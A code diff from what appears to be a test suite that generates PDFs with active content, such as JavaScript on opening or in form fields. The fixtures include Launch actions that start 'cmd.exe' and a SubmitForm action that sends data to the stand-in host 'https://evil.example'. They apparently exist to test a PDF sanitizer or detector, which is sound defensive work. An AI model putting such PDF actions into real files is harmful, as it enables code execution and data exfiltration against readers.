@@ -55,7 +55,7 @@ def _script() -> Dictionary:
     return Dictionary(S=Name.JavaScript, JS=SCRIPT)
 
 
-def _active() -> Iterator[tuple[str, Change]]:
+def _scripted() -> Iterator[tuple[str, Change]]:
     yield "a script on opening", _opening("JavaScript", JS=SCRIPT)
     yield (
         "a script in a stream",
@@ -82,6 +82,10 @@ def _active() -> Iterator[tuple[str, Change]]:
         f.Root, "AcroForm",
         Dictionary(Fields=[f.make_indirect(Dictionary(AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=SCRIPT))))]),
     )  # fmt: skip
+
+
+def _active() -> Iterator[tuple[str, Change]]:
+    yield from _scripted()
     yield "a program started", _opening("Launch", F=String("cmd.exe"))
     yield "a program behind a link", _noted("Link", A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
     yield "a form sent", _opening("SubmitForm", F=String("https://evil.example"))
